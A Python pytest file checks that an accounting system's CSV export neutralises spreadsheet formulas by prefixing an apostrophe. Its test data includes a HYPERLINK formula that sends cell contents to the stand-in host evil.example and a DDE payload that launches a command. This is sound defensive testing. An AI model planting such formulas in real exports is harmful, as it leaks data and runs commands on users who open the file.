"""CSV exports cannot carry a spreadsheet formula: cells that a spreadsheet would evaluate
(starting with = + - @ tab or carriage return) are neutralised, and stay readable."""

from __future__ import annotations

import httpx
import pytest

from accounting.spreadsheet import neutralised
from tests.accounting.support import book_task, feed_replica, parse_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("cell, safe", [
    (HYPERLINK, "'" + HYPERLINK),
    ("+SUM(1,2)", "'+SUM(1,2)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Feed the parrots", "Feed the parrots"),
    ("", ""),
    ("-1500", "-1500"),
    ("2026-12-03", "2026-12-03"),
])
def test_cells_that_would_be_evaluated_are_neutralised(cell, safe):
    assert neutralised(cell) == safe


def test_a_formula_in_a_task_reaches_the_export_neutralised(accounting_url, engine, sessions,
                                                            live_books, people):
    feed_replica(sessions, people.worker, people.accountant)
    book_task(sessions, live_books, people.worker, HYPERLINK, "UBERPOP-7", "@SUM(A1:A9)")

    response = httpx.get(f"{accounting_url}/api/exports/transactions.csv",
                         headers=people.accountant.headers)

    rows = parse_csv(response)
    assert response.status_code == 200 and len(rows) == 2
    assert {(row["task_title"], row["task_description"]) for row in rows} == {
        ("'" + HYPERLINK, "'@SUM(A1:A9)")}
    assert sorted(int(row["amount"]) < 0 for row in rows) == [False, True]  # numbers intact
